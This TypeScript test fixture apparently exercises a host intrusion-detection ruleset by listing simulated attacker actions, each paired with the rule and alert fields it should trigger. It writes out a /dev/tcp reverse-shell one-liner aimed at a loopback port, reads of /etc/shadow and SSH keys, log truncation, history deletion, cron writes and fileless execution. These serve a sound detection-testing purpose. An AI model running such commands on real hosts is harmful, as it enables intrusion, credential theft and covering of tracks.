// What an intruder does, on the host: one row per action with the rule that must tell of it.
// `script` runs in a shell whose environment names the action, so that its alerts can be told from
// the machine's own; `prepare` and `cleanup` run outside of it.

export interface Action {
  readonly name: string;
  readonly rule: string;
  readonly prepare?: string;
  readonly script: string;
  readonly cleanup?: string;
  /** Names of the ancestors where they are not the action's shell and the test run. */
  readonly ancestors?: readonly string[];
  /** Output fields the alert must have; a RegExp must match the text. */
  readonly fields: Readonly<Record<string, string | number | RegExp>>;
}

/**
 * `folder` is scratch space; `port` is a loopback listener that says "exit" to whoever connects.
 */
export function hostActions(folder: string, port: number): readonly Action[] {
  return [...shells(folder, port), ...files(folder), ...programs(folder)];
}

const root = { "user.name": "root" };

function shells(folder: string, port: number): readonly Action[] {
  return [
    {
      name: "server-shell",
      rule: "Run shell untrusted",
      prepare: `cp /bin/bash ${folder}/httpd`,
      script: `${folder}/httpd -c 'sh -c true; true'`,
      ancestors: ["httpd", "sh"],
      fields: { ...root, "proc.name": "sh", "proc.pname": "httpd" },
    },
    {
      name: "reverse-shell",
      rule: "Redirect STDOUT/STDIN to Network Connection on Host",
      script: `bash -c 'exec 9<>/dev/tcp/127.0.0.1/${port}; exec sh <&9 >&9 2>&9'`,
      fields: { ...root, "proc.name": "sh", "proc.stdin.name": new RegExp(`->127.0.0.1:${port}$`) },
    },
  ];
}

function files(folder: string): readonly Action[] {
  return [
    {
      name: "read-shadow",
      rule: "Read sensitive file untrusted",
      script: "cat /etc/shadow > /dev/null",
      fields: { ...root, "proc.name": "cat", "fd.name": "/etc/shadow", "proc.pname": "sh" },
    },
    {
      name: "read-ssh-key",
      rule: "Read ssh information",
      prepare: "mkdir -p /root/.ssh && touch /root/.ssh/id_gyr_test",
      script: "cat /root/.ssh/id_gyr_test > /dev/null",
      cleanup: "rm -f /root/.ssh/id_gyr_test",
      fields: { ...root, "fd.name": "/root/.ssh/id_gyr_test", "proc.name": "cat" },
    },
    {
      name: "write-binary-dir",
      rule: "Write below binary dir",
      script: "touch /usr/bin/gyr-test-x",
      cleanup: "rm -f /usr/bin/gyr-test-x",
      fields: { ...root, "fd.name": "/usr/bin/gyr-test-x", "proc.name": "touch" },
    },
    {
      name: "truncate-log",
      rule: "Clear Log Activities",
      prepare: "echo line > /var/log/gyr-test.log",
      script: "truncate -s 0 /var/log/gyr-test.log",
      cleanup: "rm -f /var/log/gyr-test.log",
      fields: { ...root, "fd.name": "/var/log/gyr-test.log", "proc.name": "truncate" },
    },
    {
      name: "delete-history",
      rule: "Delete or rename shell history",
      prepare: `touch ${folder}/.bash_history`,
      script: `rm -f ${folder}/.bash_history`,
      fields: { ...root, "proc.name": "rm" },
    },
    {
      name: "symlink-shadow",
      rule: "Create Symlink Over Sensitive Files",
      script: `ln -s /etc/shadow ${folder}/link`,
      fields: { ...root, "proc.name": "ln", "evt.arg.linkpath": `${folder}/link` },
    },
    {
      name: "cron-job",
      rule: "Schedule Cron Jobs",
      prepare: "mkdir -p /etc/cron.d",
      script: "echo '# nothing' > /etc/cron.d/gyr-test",
      cleanup: "rm -f /etc/cron.d/gyr-test",
      // The shell itself writes the file.
      ancestors: [],
      fields: { ...root },
    },
  ];
}

function programs(folder: string): readonly Action[] {
  return [
    {
      name: "attach-tracer",
      rule: "PTRACE attached to process",
      script: "sleep 5 & s=$!; strace -o /dev/null -p $s & t=$!; sleep 0.5; kill $t $s; wait",
      fields: { ...root, "proc.name": "strace" },
    },
    {
      name: "run-from-shm",
      rule: "Execution from /dev/shm",
      prepare: "cp /bin/true /dev/shm/gyr-test-true",
      script: "/dev/shm/gyr-test-true",
      cleanup: "rm -f /dev/shm/gyr-test-true",
      fields: { ...root, "proc.exepath": "/dev/shm/gyr-test-true" },
    },
    {
      name: "fileless",
      rule: "Fileless execution via memfd_create",
      script: `${folder}/fileless /bin/true`,
      fields: { ...root },
    },
  ];
}
